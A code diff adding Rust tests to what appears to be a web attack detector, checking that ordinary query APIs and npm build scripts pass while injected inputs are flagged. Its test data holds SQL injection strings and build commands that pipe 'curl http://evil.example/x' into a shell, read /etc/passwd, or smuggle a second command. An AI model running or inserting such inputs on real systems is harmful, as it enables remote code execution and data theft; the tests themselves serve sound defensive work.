@@ -168,3 +168,41 @@ fn spans_name_the_sign_within_the_excerpt() {
     let (text, span) = excerpt(long.as_bytes(), &(3000..3008));
     assert_eq!(&text[span], "' or 1=1");
 }
+
+#[test]
+fn a_resource_for_queries_is_asked_whole_statements() {
+    let soql = "Id,Name+FROM+Account+WHERE+Name%3D'Acme'";
+    for target in [
+        format!("/services/data/v60.0/query?q=SELECT+{soql}"),
+        "/query?db=mydb&q=SELECT+%22value%22+FROM+%22cpu%22+WHERE+%22region%22%3D'us-west'".to_owned(),
+    ] {
+        assert_eq!(detections(&target, &[], ""), [], "{target}");
+    }
+    for target in [
+        format!("/items?q=SELECT+{soql}"),
+        format!("/query?name=SELECT+{soql}"),
+        format!("/query?q=x'+UNION+SELECT+{soql}--"),
+        format!("/query?q=SELECT+{soql}+UNION+SELECT+1--+"),
+    ] {
+        let found = detections(&target, &[], "");
+        assert!(found.iter().any(|d| d.attack_type == AttackType::Sqli), "{target}: {found:?}");
+    }
+}
+
+#[test]
+fn scripts_of_a_package_build_it() {
+    let json = [("content-type", "application/json")];
+    let package = |command: &str| format!(r#"{{"name":"x","scripts":{{"build":"{command}"}}}}"#);
+    for command in ["tsc && rm -rf dist", "rm -rf node_modules && npm ci", "NODE_ENV=test jest; npm run lint"]
+    {
+        assert_eq!(detections("/v1/packages", &json, &package(command)), [], "{command}");
+    }
+    for body in [
+        package("tsc && curl http://evil.example/x | sh"),
+        package("x; cat /etc/passwd"),
+        r#"{"build":"x && rm -rf dist"}"#.to_owned(),
+    ] {
+        let found = detections("/v1/packages", &json, &body);
+        assert!(found.iter().any(|d| d.attack_type == AttackType::Rce), "{body}: {found:?}");
+    }
+}
